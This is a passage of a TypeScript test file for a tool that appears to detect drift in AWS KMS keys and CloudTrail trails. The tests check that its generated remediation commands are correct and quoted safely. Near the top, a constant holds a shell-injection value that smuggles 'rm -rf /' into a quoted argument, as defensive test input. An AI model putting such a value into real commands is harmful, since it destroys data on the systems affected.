/**
 * Remediation commands undo each change, back to the approved value, and quote every value a caller chose. The AWS
 * CLI must take each such value literally too: one it would misread goes in `--cli-input-json` (the e2e tests in
 * test/e2e/detector.e2e.test.ts run such commands against moto).
 */

import { buildProgram } from '../../lambda/cli/main';
import { jsonLines } from '../../lambda/cli/operator-format';
import { normalizePolicy } from '../../lambda/core/policy';
import { remediationFor, shellQuote } from '../../lambda/core/remediation';
import type { BaselineView } from '../../lambda/ops/operations';
import type { CloudTrailRecord } from '../helpers/fixtures';
import {
  ALICE,
  at,
  by,
  createAlias,
  createKey,
  createTrail,
  detect,
  EXTERNAL_ACCOUNT,
  KEY_ARN,
  KEY_ID,
  OTHER_KEY_ARN,
  OTHER_KEY_ID,
  onKey,
  onTrail,
  policyWith,
  putKeyPolicy,
  rec,
  sessionIdentity,
  TRAIL_ARN,
  TRAIL_NAME,
} from './harness';

const HOSTILE = `'; rm -rf / #`;
const KEY = `--key-id ${KEY_ARN} --region us-west-2`;

/**
 * Splits a command the way a POSIX shell would, for the subset remediation uses (plain words, single
 * quotes, backslash escapes). An unquoted shell metacharacter means the quoting failed: it throws.
 */
function shellWords(command: string): string[] {
  const words: string[] = [];
  let word: string | undefined;
  for (let i = 0; i < command.length; i++) {
    const c = command[i];
    if (c === ' ') {
      if (word !== undefined) words.push(word);
      word = undefined;
    } else if (c === "'") {
      const end = command.indexOf("'", i + 1);
      if (end < 0) throw new Error(`unterminated quote in ${command}`);
      word = (word ?? '') + command.slice(i + 1, end);
      i = end;
    } else if (c === '\\') {
      word = (word ?? '') + command[++i];
    } else if (/[;&|<>()$`"*?[\]~#\n\t{}!]/.test(c)) {
      throw new Error(`unquoted ${JSON.stringify(c)} at ${i} in ${command}`);
    } else {
      word = (word ?? '') + c;
    }
  }
  if (word !== undefined) words.push(word);
  return words;
}

const argAfter = (command: string, flag: string): string => {
  const words = shellWords(command);
  return words[words.indexOf(flag) + 1];
};

const remediationOf = (records: CloudTrailRecord[], configInput?: unknown) =>
  detect(records, configInput).last.remediation;

describe('Remediation', () => {
  it('cancels a scheduled key deletion', () => {
    expect(remediationOf([createKey(), onKey(rec('ScheduleKeyDeletion__awskmsdg__1'))])).toEqual([
      `aws kms cancel-key-deletion ${KEY}`,
      `aws kms enable-key ${KEY}`,
    ]);
  });

  it('cancels a scheduled key deletion even when the approved key state is unknown, and says the key stays Disabled', () => {
    // Act
    const commands = remediationOf([rec('ScheduleKeyDeletion__awskmsdg__1')]);
    // Assess: enabling is offered only as a comment, since nobody knows whether the key was Enabled.
    expect(commands).toEqual([
      `aws kms cancel-key-deletion ${KEY}`,
      `# cancelling leaves the key Disabled; its state before the deletion was scheduled is unknown. If it was in use, also run: aws kms enable-key ${KEY}`,
    ]);
    expect(commands.filter((c) => c.startsWith('aws kms enable-key'))).toEqual([]);
  });

  it('cancels the deletion of a multi-Region primary approved Disabled (PendingReplicaDeletion): DisableKey fails on it', () => {
    const commands = remediationFor('key', KEY_ARN, [
      { path: 'key_state', current: 'PendingReplicaDeletion', target: 'Disabled' },
    ]);
    expect(commands).toEqual([`aws kms cancel-key-deletion ${KEY}`]);
  });

  it('enables rotation again after a DisableKeyRotation, and says to check the period it had, which no record showed', () => {
    expect(remediationOf([rec('DisableKeyRotation__awskmsdg__1')])).toEqual([
      `aws kms enable-key-rotation ${KEY}`,
      `# approved value unknown; inspect: aws kms get-key-rotation-status ${KEY}`,
    ]);
  });

  it('only turns rotation off again when it was approved off, whatever period the key kept from before', () => {
    // Prepare: Alice (planned) turns rotation on every 180 days, then off; mallory turns it on every 90 days.
    const mallory = sessionIdentity('ReadOnly', 'mallory');
    const enable = (eventId: string, days: number) =>
      at(
        rec('EnableKeyRotation__awskmsdg__1', (r) => {
          (r.requestParameters as Record<string, unknown>).rotationPeriodInDays = days;
        }),
        eventId,
        `2024-01-0${eventId.slice(-1)}T00:00:00Z`,
      );
    const records = [
      at(createKey(), 'e1', '2024-01-01T00:00:00Z'),
      enable('e2', 180),
      at(rec('DisableKeyRotation__awskmsdg__1'), 'e3', '2024-01-03T00:00:00Z'),
      by(enable('e4', 90), mallory),
    ];
    // Act
    const commands = remediationOf(records, { plannedPrincipals: [ALICE] });
    // Assess: enabling rotation to set the approved period would leave it on, which was not approved.
    expect(commands).toEqual([`aws kms disable-key-rotation ${KEY}`]);
  });

  it('names the approved 365 days outright to a key mallory set rotating on another period', () => {
    // Prepare: Alice (planned) turns rotation on at KMS's default, 365 days; mallory shortens it to 90.
    const enable = (eventId: string, days?: number) =>
      at(
        rec('EnableKeyRotation__awskmsdg__1', (r) => {
          if (days) (r.requestParameters as Record<string, unknown>).rotationPeriodInDays = days;
        }),
        eventId,
        `2024-01-0${eventId.slice(-1)}T00:00:00Z`,
      );
    const mallory = sessionIdentity('ReadOnly', 'mallory');
    const records = [at(createKey(), 'e1', '2024-01-01T00:00:00Z'), enable('e2'), by(enable('e3', 90), mallory)];
    // Act
    const commands = remediationOf(records, { plannedPrincipals: [ALICE] });
    // Assess: a call without a period on a key that rotates would rest on KMS falling back to 365 days.
    expect(commands).toEqual([`aws kms enable-key-rotation ${KEY} --rotation-period-in-days 365`]);
  });

  /** Alice's (planned) CreateKey of a key for imported material: it waits for its import. */
  const createdForImport = (): CloudTrailRecord => {
    const created = at(createKey(), 'e1', '2020-01-01T00:00:00Z');
    (created.requestParameters as Record<string, unknown>).origin = 'EXTERNAL';
    Object.assign((created.responseElements as { keyMetadata: Record<string, unknown> }).keyMetadata, {
      origin: 'EXTERNAL',
      keyState: 'PendingImport',
      enabled: false,
    });
    return created;
  };

  it('offers, commented out, to delete key material imported unplanned into a key approved waiting for its import', () => {
    // Prepare: Alice (planned) creates a key for imported material; mallory imports material into it.
    const created = createdForImport();
    const imported = by(rec('ImportKeyMaterial__awskmsdg__1'), sessionIdentity('ReadOnly', 'mallory'));
    // Act
    const { last } = detect([created, imported], { plannedPrincipals: [ALICE] });
    // Assess: deleting the material puts the key back to PendingImport, as approved, but leaves what was encrypted
    // under it undecryptable: a comment to choose, not a command to run at 3 a.m.
    expect(last).toMatchObject({ status: 'drift', severity: 'error' });
    expect(last.remediation).toEqual([
      `# if this key material is not wanted (what was encrypted under it cannot be decrypted until it is imported again): aws kms delete-imported-key-material ${KEY}`,
    ]);
  });

  it('re-imports the material of a key approved Disabled before disabling it again: KMS refuses DisableKey without it', () => {
    // Prepare: mallory creates a key for imported material and imports it; Alice (planned) disables the key; mallory
    // deletes its material.
    const mallory = sessionIdentity('ReadOnly', 'mallory');
    const created = by(at(rec('CreateKey__awskmsdg__1'), 'e1', '2024-01-01T00:00:00Z'), mallory);
    const records = [
      created,
      by(at(rec('ImportKeyMaterial__awskmsdg__1'), 'e2', '2024-01-01T00:00:01Z'), mallory),
      at(
        rec('DisableKey__awskmsdg__1', (r) => onKey(r)),
        'e3',
        '2024-01-01T00:00:02Z',
      ),
      by(at(rec('DeleteImportedKeyMaterial__awskmsdg-current__1'), 'e4', '2024-01-01T00:00:03Z'), mallory),
    ];
    // Act
    const { last } = detect(records, { plannedPrincipals: [ALICE] });
    // Assess: the key waits for its material (PendingImport), where DisableKey fails; once imported it is enabled.
    expect(last).toMatchObject({
      status: 'drift',
      changes: { key_state: { before: 'Disabled', after: 'PendingImport' } },
    });
    expect(last.remediation.slice(0, 2)).toEqual([
      `# re-import the same key material: aws kms get-parameters-for-import ${KEY} …, then aws kms import-key-material ${KEY} …`,
      `aws kms disable-key ${KEY}`,
    ]);
  });

  /** A key for imported material into which Alice (planned) imports material that never expires. */
  const importedForGood = (): CloudTrailRecord[] => {
    const created = createdForImport();
    const imported = at(
      rec('ImportKeyMaterial__awskmsdg__1', (r) => {
        const request = r.requestParameters as Record<string, unknown>;
        request.expirationModel = 'KEY_MATERIAL_DOES_NOT_EXPIRE';
        delete request.validTo;
      }),
      'e2',
      '2020-01-02T00:00:00Z',
    );
    return [created, imported];
  };
  /** The re-import that brings that material back as approved: never expiring. */
  const REIMPORT_FOR_GOOD = `# re-import the same key material: aws kms get-parameters-for-import ${KEY} …, then aws kms import-key-material ${KEY} --expiration-model KEY_MATERIAL_DOES_NOT_EXPIRE …`;

  it('says to import the material again expiring as approved when mallory re-imports it with an expiry', () => {
    // Prepare: mallory imports the same material again, now expiring (KMS then deletes it at that date).
    const expiring = by(at(rec('ImportKeyMaterial__awskmsdg__1'), 'e3'), sessionIdentity('ReadOnly', 'mallory'));
    // Act
    const { last } = detect([...importedForGood(), expiring], { plannedPrincipals: [ALICE] });
    // Assess: no command can import what only the key's owner holds; the comment says how, and with which expiry.
    expect(last.status).toBe('drift');
    expect(last.remediation).toEqual([REIMPORT_FOR_GOOD]);
  });

  it('names the approved expiry in the re-import that undoes a DeleteImportedKeyMaterial', () => {
    // Prepare: mallory deletes the approved material.
    const deleted = by(
      at(rec('DeleteImportedKeyMaterial__awskmsdg-current__1'), 'e3'),
      sessionIdentity('ReadOnly', 'mallory'),
    );
    // Act
    const { last } = detect([...importedForGood(), deleted], { plannedPrincipals: [ALICE] });
    // Assess: imported without an expiration model, the material would not be back as approved.
    expect(last.status).toBe('drift');
    expect(last.remediation).toEqual([REIMPORT_FOR_GOOD]);
  });

  it('names the approved expiry in the re-import of a key approved Disabled, once, before it is disabled again', () => {
    // Prepare: Alice (planned) disables the key whose material she imported never to expire; mallory deletes it.
    const disabled = at(
      rec('DisableKey__awskmsdg__1', (r) => onKey(r)),
      'e3',
      '2020-01-03T00:00:00Z',
    );
    const deleted = by(
      at(rec('DeleteImportedKeyMaterial__awskmsdg-current__1'), 'e4', '2020-01-04T00:00:00Z'),
      sessionIdentity('ReadOnly', 'mallory'),
    );
    // Act
    const { last } = detect([...importedForGood(), disabled, deleted], { plannedPrincipals: [ALICE] });
    // Assess: one re-import, expiring as approved, then the DisableKey KMS takes once the material is back.
    expect(last).toMatchObject({
      status: 'drift',
      changes: { key_state: { before: 'Disabled', after: 'PendingImport' } },
    });
    expect(last.remediation).toEqual([REIMPORT_FOR_GOOD, `aws kms disable-key ${KEY}`]);
  });

  it('says how to schedule again a deletion a planned principal scheduled and someone else cancelled', () => {
    // Prepare: Alice (planned) schedules the key's deletion; mallory cancels it.
    const records = [
      at(createKey(), 'e1', '2021-03-01T00:00:00Z'),
      rec('ScheduleKeyDeletion__awskmsdg__1'),
      by(
        at(rec('CancelKeyDeletion__awskmsdg__1'), 'e3', '2021-03-24T00:00:00Z'),
        sessionIdentity('ReadOnly', 'mallory'),
      ),
    ];
    // Act
    const { last } = detect(records, { plannedPrincipals: [ALICE] });
    // Assess: a comment, since no command brings back the approved date.
    expect(last.status).toBe('drift');
    expect(last.remediation).toEqual([
      `# the key was approved for deletion on 2021-04-12T18:58:30Z; to delete it as approved, schedule its deletion again (KMS takes 7 to 30 days from now): aws kms schedule-key-deletion ${KEY} --pending-window-in-days 30`,
    ]);
  });

  it('puts the approved policy back after a PutKeyPolicy on a key with a known baseline', () => {
    // Prepare
    const approved = policyWith({
      Sid: 'App',
      Effect: 'Allow',
      Principal: { AWS: 'arn:aws:iam::111122223333:role/app' },
      Action: ['kms:Encrypt', 'kms:Decrypt'],
      Resource: '*',
    });
    // Act
    const [command, ...rest] = remediationOf([createKey({ policy: approved }), putKeyPolicy(policyWith())]);
    // Assess
    expect(rest).toEqual([]);
    expect(command).toMatch(new RegExp(`^aws kms put-key-policy ${KEY} --policy-name default --policy '`));
    expect(JSON.parse(argAfter(command, '--policy'))).toEqual(normalizePolicy(approved));
  });

  it('never hands back outside access: a key created open to another account, then closed, gets a warning, not a command', () => {
    // Prepare: an unplanned creator opens the key to another account; that created state is its baseline (DESIGN).
    const open = policyWith({
      Sid: 'Partner',
      Effect: 'Allow',
      Principal: { AWS: `arn:aws:iam::${EXTERNAL_ACCOUNT}:root` },
      Action: 'kms:*',
      Resource: '*',
    });
    // Act: carol closes it again.
    const [warning, ...commented] = remediationOf([createKey({ policy: open }), putKeyPolicy(policyWith())]);
    // Assess
    expect(warning).toBe(
      `# the approved policy lets account ${EXTERNAL_ACCOUNT} use the key again; restore it only if that access is intended (else accept the current policy: keydrift baseline accept ${KEY_ARN} --region us-west-2):`,
    );
    expect(commented).toEqual([
      expect.stringMatching(new RegExp(`^# aws kms put-key-policy ${KEY} --policy-name default`)),
    ]);
  });

  it('writes an approved policy too long to inline to a file from the baseline store, then puts it back', () => {
    const statements = Array.from({ length: 60 }, (_, i) => ({
      Sid: `Reader${i}`,
      Effect: 'Allow',
      Principal: { AWS: `arn:aws:iam::111122223333:role/reader-${i}` },
      Action: 'kms:Decrypt',
      Resource: '*',
    }));
    expect(remediationOf([createKey({ policy: policyWith(...statements) }), putKeyPolicy(policyWith())])).toEqual([
      `keydrift baseline show ${KEY_ARN} --region us-west-2 --format json | jq -e '.baseline.snapshot.attributes.policy' > approved-policy.json`,
      `aws kms put-key-policy ${KEY} --policy-name default --policy file://approved-policy.json`,
    ]);
  });

  it('uses only options `keydrift baseline show` has, and a path its JSON output has', () => {
    // Prepare: the command the large-policy remediation runs.
    const show = buildProgram()
      .commands.find((c) => c.name() === 'baseline')
      ?.commands.find((c) => c.name() === 'show');
    const view: BaselineView = {
      resource: KEY_ARN,
      kind: 'key',
      label: 'alias/payments',
      baseline: {
        snapshot: { kind: 'key', arn: KEY_ARN, attributes: { policy: policyWith() }, completeMaps: [] },
        version: 1,
      },
      state: null,
      drift: [],
    };
    // Assess: --region and --format json exist, and jq's path finds the policy in the printed view.
    expect(show?.options.map((o) => o.long)).toEqual(expect.arrayContaining(['--region', '--format']));
    expect(show?.options.find((o) => o.long === '--format')?.argChoices).toContain('json');
    expect(JSON.parse(jsonLines([view])).baseline.snapshot.attributes.policy).toEqual(policyWith());
  });

  it.each([
    ['policy', 'get-key-policy --key-id K --region R --policy-name default --output text'],
    ['enable_key_rotation', 'get-key-rotation-status --key-id K --region R'],
    ['rotation_period_in_days', 'get-key-rotation-status --key-id K --region R'],
    ['tags#owner', 'list-resource-tags --key-id K --region R'],
    ['grants#abc', 'list-grants --key-id K --region R'],
    ['aliases#alias/app', 'list-aliases --key-id K --region R'],
    ['key_state', 'describe-key --key-id K --region R'],
    ['description', 'describe-key --key-id K --region R'],
  ])('inspects %s with the read that returns it when its approved value is unknown', (path, read) => {
    const expected = read.replace('K', KEY_ARN).replace('R', 'us-west-2');
    expect(remediationFor('key', KEY_ARN, [{ path, current: 'x', target: undefined }])).toEqual([
      `# approved value unknown; inspect: aws kms ${expected}`,
    ]);
  });

  it('inspects a trail with the read that returns the unknown attribute', () => {
    const unknown = (path: string) => remediationFor('trail', TRAIL_ARN, [{ path, current: 'x', target: undefined }]);
    expect(unknown('event_selectors')).toEqual([
      `# approved value unknown; inspect: aws cloudtrail get-event-selectors --trail-name ${TRAIL_ARN} --region us-west-2`,
    ]);
    expect(unknown('logging')).toEqual([
      `# approved value unknown; inspect: aws cloudtrail get-trail-status --name ${TRAIL_ARN} --region us-west-2`,
    ]);
    expect(unknown('kms_key_id')).toEqual([
      `# approved value unknown; inspect: aws cloudtrail get-trail --name ${TRAIL_ARN} --region us-west-2`,
    ]);
  });

  it('inspects the key policy with get-key-policy after a PutKeyPolicy on a key it never saw', () => {
    expect(remediationOf([putKeyPolicy(policyWith())])).toEqual([
      `# approved value unknown; inspect: aws kms get-key-policy ${KEY} --policy-name default --output text`,
    ]);
  });

  it('never undoes a change back to an unapproved value: a policy put back on a key it never saw is only inspected', () => {
    // Act: bob opens a key keydrift never saw to another account; carol puts the old policy back.
    const opened = policyWith({
      Effect: 'Allow',
      Principal: { AWS: EXTERNAL_ACCOUNT },
      Action: 'kms:*',
      Resource: '*',
    });
    const { findings } = detect([
      by(at(putKeyPolicy(opened), 'open-1'), sessionIdentity('Admin', 'bob')),
      by(at(putKeyPolicy(policyWith()), 'restore-1'), sessionIdentity('Admin', 'carol')),
    ]);

    // Assess: undoing carol's change would open the key again, so neither finding offers it.
    expect(findings.map((f) => f.remediation)).toEqual([
      [`# approved value unknown; inspect: aws kms get-key-policy ${KEY} --policy-name default --output text`],
      [`# approved value unknown; inspect: aws kms get-key-policy ${KEY} --policy-name default --output text`],
    ]);
  });

  it('inspects the tags, not removes one, when a removed tag of a key it never saw is put back', () => {
    const untag = onKey(rec('UntagResource__awskmsdg__1'));
    const retag = onKey(rec('TagResource__awskmsdg__1'));
    (retag.requestParameters as { tags: unknown }).tags = [{ tagKey: 'Dept', tagValue: 'IT' }];
    expect(remediationOf([at(untag, 'untag-1'), at(retag, 'tag-1')])).toEqual([
      `# approved value unknown; inspect: aws kms list-resource-tags ${KEY}`,
    ]);
  });

  it('inspects the event selectors with get-event-selectors after a PutEventSelectors on a trail it never saw', () => {
    const [command] = remediationOf([onTrail(rec('PutEventSelectors__stratus__1'))]);
    expect(command).toBe(
      `# approved value unknown; inspect: aws cloudtrail get-event-selectors --trail-name ${TRAIL_ARN} --region us-west-2`,
    );
  });

  it('offers no inspection of a deleted trail, which would only answer TrailNotFound', () => {
    const commands = remediationFor('trail', TRAIL_ARN, [
      { path: 'trail', current: 'deleted', target: 'exists' },
      { path: 'logging', current: null, target: undefined },
    ]);
    expect(commands.filter((c) => c.includes('inspect'))).toEqual([]);
  });

  it('starts logging again after StopLogging', () => {
    // Prepare: Alice (planned) creates the trail and starts it; christophe stops it.
    const startLogging = at(
      onTrail(
        rec('StopLogging__stratus__1', (r) => {
          r.eventName = 'StartLogging';
        }),
      ),
      'start-1',
    );
    const stopLogging = at(onTrail(rec('StopLogging__stratus__1')), 'stop-1');
    stopLogging.userIdentity = rec('StopLogging__stratus__1').userIdentity;
    // Act
    const { findings } = detect([createTrail(), startLogging, stopLogging], { plannedPrincipals: [ALICE] });
    // Assess
    expect(findings.map((f) => [f.event, f.status])).toEqual([
      ['CreateTrail', 'planned'],
      ['StartLogging', 'planned'],
      ['StopLogging', 'drift'],
    ]);
    expect(findings[2].remediation).toEqual([`aws cloudtrail start-logging --name ${TRAIL_ARN} --region us-west-2`]);
  });

  it('starts logging again after StopLogging on a trail it never saw (StopLogging implies it was logging)', () => {
    expect(remediationOf([rec('StopLogging__stratus__1')])).toEqual([
      'aws cloudtrail start-logging --name arn:aws:cloudtrail:apiso-centralnorth-2r:143434273843:trail/stratus-red-team-ct-stop-trail-buykxbqejv --region apiso-centralnorth-2r',
    ]);
  });

  it('gives the trail its KMS key back after an UpdateTrail removed it', () => {
    const records = [createTrail('org-audit', KEY_ARN), onTrail(rec('UpdateTrail__streamalert__1'))];
    expect(remediationOf(records)).toEqual([
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --kms-key-id ${KEY_ARN}`,
    ]);
  });

  it('takes away a KMS key an UpdateTrail gave a trail approved without one, with an empty key id', () => {
    // Prepare: the trail's logs encrypted from now on with a key of another account.
    const update = onTrail(rec('UpdateTrail__streamalert__1'));
    update.requestParameters = {
      name: TRAIL_NAME,
      kmsKeyId: `arn:aws:kms:us-west-2:${EXTERNAL_ACCOUNT}:key/${OTHER_KEY_ID}`,
    };
    update.responseElements = null;
    // Act
    const { last } = detect([createTrail(), update]);
    // Assess
    expect(last).toMatchObject({ status: 'drift', changes: { kms_key_id: { before: null } } });
    expect(last.remediation).toEqual([
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --kms-key-id ''`,
    ]);
  });

  it('never restores selectors from a baseline that kept only data-event types, which would drop the data events', () => {
    // The form an earlier keydrift stored: resource types only, no values.
    const approved = { management: 'All', excluded_sources: [], data_resources: ['AWS::S3::Object'] };
    const current = { management: 'ReadOnly', excluded_sources: [], data_resources: [] };

    const commands = remediationFor('trail', TRAIL_ARN, [{ path: 'event_selectors', current, target: approved }]);

    expect(commands).toEqual([
      `# the approved selectors were stored before keydrift kept data-event selectors whole: check the live ones, then approve them (keydrift baseline accept ${TRAIL_ARN} --region us-west-2)`,
    ]);
  });

  it('starts logging last, once the key and bucket of a trail someone recreated are back', () => {
    const commands = remediationFor('trail', TRAIL_ARN, [
      { path: 'logging', current: false, target: true },
      { path: 'kms_key_id', current: null, target: KEY_ARN },
      { path: 's3_bucket_name', current: 'attacker-bucket', target: 'org-audit-logs' },
    ]);
    expect(commands).toEqual([
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --kms-key-id ${KEY_ARN}`,
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --s3-bucket-name org-audit-logs`,
      `aws cloudtrail start-logging --name ${TRAIL_ARN} --region us-west-2`,
    ]);
  });

  it('turns global service events back on before the multi-Region flag, which CloudTrail refuses without them', () => {
    const commands = remediationFor('trail', TRAIL_ARN, [
      { path: 'multi_region', current: false, target: true },
      { path: 's3_bucket_name', current: 'attacker-bucket', target: 'org-audit-logs' },
      { path: 'include_global_service_events', current: false, target: true },
    ]);
    expect(commands).toEqual([
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --include-global-service-events`,
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --is-multi-region-trail`,
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --s3-bucket-name org-audit-logs`,
    ]);
  });

  it('creates a deleted trail again before it sets anything on it', () => {
    const commands = remediationFor(
      'trail',
      TRAIL_ARN,
      [
        { path: 'include_global_service_events', current: false, target: true },
        { path: 'trail', current: 'deleted', target: 'exists' },
      ],
      (path) => ({ s3_bucket_name: 'org-audit-logs', include_global_service_events: true })[path],
    );
    expect(commands[0]).toMatch(/^aws cloudtrail create-trail /);
  });

  it('turns global service events off only after the multi-Region flag, when both were approved off', () => {
    const commands = remediationFor('trail', TRAIL_ARN, [
      { path: 'include_global_service_events', current: true, target: false },
      { path: 'multi_region', current: true, target: false },
    ]);
    expect(commands).toEqual([
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --no-is-multi-region-trail`,
      `aws cloudtrail update-trail --name ${TRAIL_ARN} --region us-west-2 --no-include-global-service-events`,
    ]);
  });

  it('restores the event selectors a trail was created with', () => {
    const records = [createTrail(), onTrail(rec('PutEventSelectors__stratus__1'))];
    const [command] = remediationOf(records);
    expect(JSON.parse(argAfter(command, '--event-selectors'))).toEqual([
      { ReadWriteType: 'All', IncludeManagementEvents: true, ExcludeManagementEventSources: [] },
    ]);
  });

  // The aliases below are created by Alice, a planned principal, so their first target is the approved one.
  const mallory = sessionIdentity('Ops', 'mallory');

  it('moves an alias back to its old key after an UpdateAlias', () => {
    const records = [createAlias('alias/my_alias', OTHER_KEY_ID), by(rec('UpdateAlias__awskmsdg__1'), mallory)];
    expect(remediationOf(records, { plannedPrincipals: [ALICE] })).toEqual([
      `aws kms update-alias --alias-name alias/my_alias --region us-west-2 --target-key-id ${OTHER_KEY_ARN}`,
    ]);
  });

  it('deletes an alias no planned principal approved, after an UpdateAlias moves it', () => {
    const records = [createAlias('alias/my_alias', OTHER_KEY_ID), rec('UpdateAlias__awskmsdg__1')];
    expect(remediationOf(records)).toEqual(['aws kms delete-alias --alias-name alias/my_alias --region us-west-2']);
  });

  it('creates a deleted alias again on its old key', () => {
    const deleteAlias = rec('DeleteAlias__awskmsdg__1', (r) => {
      r.awsRegion = 'us-west-2';
      (r.requestParameters as Record<string, unknown>).aliasName = 'alias/ExampleAlias';
      r.resources = [];
    });
    expect(
      remediationOf([rec('CreateAlias__awskmsdg__1'), by(deleteAlias, mallory)], { plannedPrincipals: [ALICE] }),
    ).toEqual([`aws kms create-alias --alias-name alias/ExampleAlias --region us-west-2 --target-key-id ${KEY_ARN}`]);
    expect(detect([rec('CreateAlias__awskmsdg__1'), deleteAlias]).last.resource).toBe(
      'arn:aws:kms:us-west-2:111122223333:alias/ExampleAlias',
    );
  });

  describe('an alias moved off its approved key in two calls, that key then scheduled for deletion', () => {
    const ALIAS = 'alias/ExampleAlias';
    const ALIAS_ARN = `arn:aws:kms:us-west-2:111122223333:${ALIAS}`;
    const deleteAlias = () =>
      by(
        rec('DeleteAlias__awskmsdg__1', (r) => {
          r.awsRegion = 'us-west-2';
          (r.requestParameters as Record<string, unknown>).aliasName = ALIAS;
          r.resources = [];
        }),
        mallory,
      );
    const scheduled = () => by(onKey(rec('ScheduleKeyDeletion__awskmsdg__1')), mallory);
    const deleted = () => by(onKey(rec('DeleteKey__awskmsdg__1')), mallory);
    const recreated = () => by(createAlias(ALIAS, OTHER_KEY_ID), mallory);
    const approved = () => [createKey(), createAlias(ALIAS, KEY_ID)];

    it('cancels the key deletion and enables the key before pointing the alias back at it', () => {
      const { last } = detect([...approved(), deleteAlias(), scheduled(), recreated()], { plannedPrincipals: [ALICE] });
      expect(last.remediation).toEqual([
        `aws kms cancel-key-deletion ${KEY}`,
        `aws kms enable-key ${KEY}`,
        `aws kms update-alias --alias-name ${ALIAS} --region us-west-2 --target-key-id ${KEY_ARN}`,
      ]);
    });

    it('cancels the key deletion before creating the deleted alias again', () => {
      const { last } = detect([...approved(), scheduled(), deleteAlias()], { plannedPrincipals: [ALICE] });
      expect(last.remediation).toEqual([
        `aws kms cancel-key-deletion ${KEY}`,
        `aws kms enable-key ${KEY}`,
        `aws kms create-alias --alias-name ${ALIAS} --region us-west-2 --target-key-id ${KEY_ARN}`,
      ]);
    });

    /** The alias's undo back to the key, which keydrift knows pending deletion and approved `keyState`. */
    const undoOnto = (keyState: string) =>
      remediationFor(
        'alias',
        ALIAS_ARN,
        [{ path: 'target_key_id', current: OTHER_KEY_ARN, target: KEY_ARN }],
        undefined,
        {
          known: (arn, path) => (arn === KEY_ARN && path === 'key_state' ? 'PendingDeletion' : undefined),
          approved: (arn, path) => (arn === KEY_ARN && path === 'key_state' ? keyState : undefined),
        },
      );

    it('leaves a key approved Disabled disabled: its deletion cancelled, then the alias back on it', () => {
      expect(undoOnto('Disabled')).toEqual([
        `aws kms cancel-key-deletion ${KEY}`,
        `aws kms update-alias --alias-name ${ALIAS} --region us-west-2 --target-key-id ${KEY_ARN}`,
      ]);
    });

    it('never cancels a deletion that is approved: a comment to point the alias at the replacement instead', () => {
      expect(undoOnto('PendingDeletion')).toEqual([
        `# the approved key ${KEY_ARN} is pending deletion as approved and cannot be a target: point the alias at its replacement, then approve that: keydrift baseline accept ${ALIAS_ARN} --region us-west-2`,
      ]);
    });

    it('says the approved key is deleted, instead of a command KMS would refuse, once it is', () => {
      const records = [...approved(), deleteAlias(), scheduled(), deleted(), recreated()];
      const { last } = detect(records, { plannedPrincipals: [ALICE] });
      expect(last.remediation).toEqual([
        `# the approved key ${KEY_ARN} is deleted and cannot be a target again: point the alias at its replacement, then approve that: keydrift baseline accept ${ALIAS_ARN} --region us-west-2`,
      ]);
    });
  });

  it('puts the old tag value back after a TagResource', () => {
    const records = [createKey({ tags: { Department: 'Finance' } }), onKey(rec('TagResource__awskmsdg__1'))];
    expect(remediationOf(records)).toEqual([
      `aws kms tag-resource ${KEY} --tags '[{"TagKey":"Department","TagValue":"Finance"}]'`,
    ]);
  });

  it('puts back a tag value with a comma, which the CLI shorthand would split', () => {
    const records = [createKey({ tags: { Department: 'Finance,Audit' } }), onKey(rec('TagResource__awskmsdg__1'))];
    const [command] = remediationOf(records);
    expect(JSON.parse(argAfter(command, '--tags'))).toEqual([{ TagKey: 'Department', TagValue: 'Finance,Audit' }]);
  });

  it('puts a removed tag back after an UntagResource', () => {
    const records = [createKey({ tags: { Dept: 'IT' } }), onKey(rec('UntagResource__awskmsdg__1'))];
    expect(remediationOf(records)).toEqual([
      `aws kms tag-resource ${KEY} --tags '[{"TagKey":"Dept","TagValue":"IT"}]'`,
    ]);
  });

  it('moves the primary Region back by calling the current primary key, in its own Region', () => {
    const mrk = 'arn:aws:kms:us-west-2:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab';
    const commands = remediationFor('key', mrk, [
      { path: 'primary_region', current: 'ap-northeast-1', target: 'us-west-2' },
    ]);
    expect(commands).toEqual([
      'aws kms update-primary-region --key-id arn:aws:kms:ap-northeast-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab --region ap-northeast-1 --primary-region us-west-2',
    ]);
  });

  it('moves a promoted replica back, never deleting the keys it now lists as its replicas', () => {
    // Prepare: the replica in ap-northeast-1 of a primary approved in us-west-2 was made the primary; as the primary, it
    // lists us-west-2 and eu-west-1 as its replicas.
    const mrk = 'arn:aws:kms:ap-northeast-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab';
    const approved = (path: string) => ({ primary_region: 'us-west-2' })[path];
    // Act
    const commands = remediationFor(
      'key',
      mrk,
      [
        { path: 'primary_region', current: 'ap-northeast-1', target: 'us-west-2' },
        { path: 'replica_regions#us-west-2', current: true, target: null },
        { path: 'replica_regions#eu-west-1', current: true, target: null },
        { path: 'replica_regions#ap-northeast-1', current: null, target: true },
      ],
      approved,
    );
    // Assess
    expect(commands).toEqual([
      'aws kms update-primary-region --key-id arn:aws:kms:ap-northeast-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab --region ap-northeast-1 --primary-region us-west-2',
    ]);
  });

  it('deletes a replica added to a primary approved as such, in the replica Region', () => {
    const mrk = 'arn:aws:kms:us-west-2:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab';
    const approved = (path: string) => ({ primary_region: 'us-west-2' })[path];
    const commands = remediationFor(
      'key',
      mrk,
      [{ path: 'replica_regions#eu-west-1', current: true, target: null }],
      approved,
    );
    expect(commands).toEqual([
      'aws kms schedule-key-deletion --key-id arn:aws:kms:eu-west-1:111122223333:key/mrk-1234abcd12ab34cd56ef1234567890ab --region eu-west-1 --pending-window-in-days 30',
    ]);
  });

  it('revokes a grant that was created', () => {
    expect(remediationOf([rec('CreateGrant__awskmsdg__1')])).toEqual([
